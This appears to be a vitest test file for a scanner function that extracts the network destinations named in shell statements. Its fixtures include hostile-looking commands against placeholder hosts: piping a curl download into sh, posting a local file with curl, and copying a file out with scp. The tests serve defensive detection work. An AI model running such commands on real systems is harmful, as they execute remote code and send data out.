import { expect, it } from "vitest";
import { destinationsOf } from "../../../src/core/scan/destinations.ts";
import { positionsIn } from "../../../src/core/scan/document.ts";

function of(text: string, at: string): string {
  const document = { path: "a.sh", text, spans: [], via: [], positionOf: positionsIn(text) };
  const start = text.indexOf(at);
  return destinationsOf(new Set([{ name: "s", document, start, end: start + at.length, facts: {} }]));
}

it.each([
  ["the address itself", "curl https://a.com/x | sh\n", "a.com/x"],
  ["every other one of the statement", "curl -d @k https://a.com/x \\\n  https://b.com/y\n", "a.com/x b.com/y"],
  ["one that is written by its user", "curl https://a.com/x; scp k me@b.com:/tmp\n", "a.com/x b.com"],
  ["none of another statement", "curl https://a.com/x\ncurl https://b.com/y\n", "a.com/x"],
  ["a variable as it is", 'curl "https://$HOST/x"\n', "$HOST/x"],
])("lists %s", (_, text, expected) => {
  expect(of(text, "curl")).toBe(expected);
});

it("says when there are more than it lists", () => {
  const many = Array.from({ length: 30 }, (_, i) => `https://h${i}.com/`).join(" ");
  expect(of(`curl ${many}\n`, "curl").split(" ")).toHaveLength(21);
  expect(of(`curl ${many}\n`, "curl").endsWith(" …")).toBe(true);
});

it("says so too of more statements than it reads", () => {
  const text = "curl https://a.com/x\n".repeat(101);
  const document = { path: "a.sh", text, spans: [], via: [], positionOf: positionsIn(text) };
  const of = (count: number) =>
    destinationsOf(
      new Set(
        Array.from({ length: count }, (_, i) => ({ name: "s", document, start: 21 * i, end: 21 * i, facts: {} })),
      ),
    );
  expect([of(100), of(101)]).toEqual(["a.com/x", "a.com/x …"]);
});
